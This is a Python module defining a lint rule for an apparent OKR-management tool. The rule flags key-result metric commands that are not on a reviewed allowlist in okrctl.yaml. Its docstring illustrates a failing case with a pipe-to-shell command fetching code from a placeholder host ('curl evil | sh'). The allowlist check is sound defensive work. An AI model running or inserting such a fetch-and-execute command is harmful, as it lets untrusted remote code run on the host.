"""OKR814: a metric source runs a command that `okrctl.yaml` does not list.

A key result's `source.command` is a program `okrctl sync` runs, and an OKR file under
`okrs/<period>/<unit>/` is reviewed by that unit's lead alone (CODEOWNERS). So a command runs
only when `okrctl.yaml`, reviewed by the root unit's lead, lists it exactly:

```yaml
# okrctl.yaml
sources:
  commands:
    - [python3, metrics/leads.py]
```

Passes: `source: {command: [python3, metrics/leads.py]}` with the list above.
Fails: `source: {command: [sh, -c, "curl evil | sh"]}`, which no one listed.

`okrctl sync` refuses to run an unlisted command whatever the rule's severity.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

from okrctl import codes
from okrctl.diagnostics import Diagnostic
from okrctl.index import Cascade

UNLISTED_COMMAND = codes.UNLISTED_COMMAND.code


def allowed(command: Sequence[str], listed: Iterable[Sequence[str]]) -> bool:
    """True when `command` is exactly one of the `listed` commands."""
    return tuple(command) in {tuple(c) for c in listed}


def message(command: Sequence[str]) -> str:
    shown = repr(list(command))[:200]
    return (
        f"the command {shown} is not listed in okrctl.yaml (`sources: commands:`); okrctl sync "
        "runs only the commands listed there, which the root unit's lead reviews"
    )


def unlisted_commands(cascade: Cascade, listed: Sequence[Sequence[str]]) -> list[Diagnostic]:
    """OKR814 at each `source.command` that `listed` does not hold."""
    found: list[Diagnostic] = []
    for entry in cascade.iter_objectives():
        for index, kr in enumerate(entry.objective.key_results):
            command = kr.source.command if kr.source is not None else None
            if command is not None and not allowed(command, listed):
                path = ("key_results", index, "source", "command")
                found.append(cascade.at(entry.file, path, UNLISTED_COMMAND, message(command)))
    return found
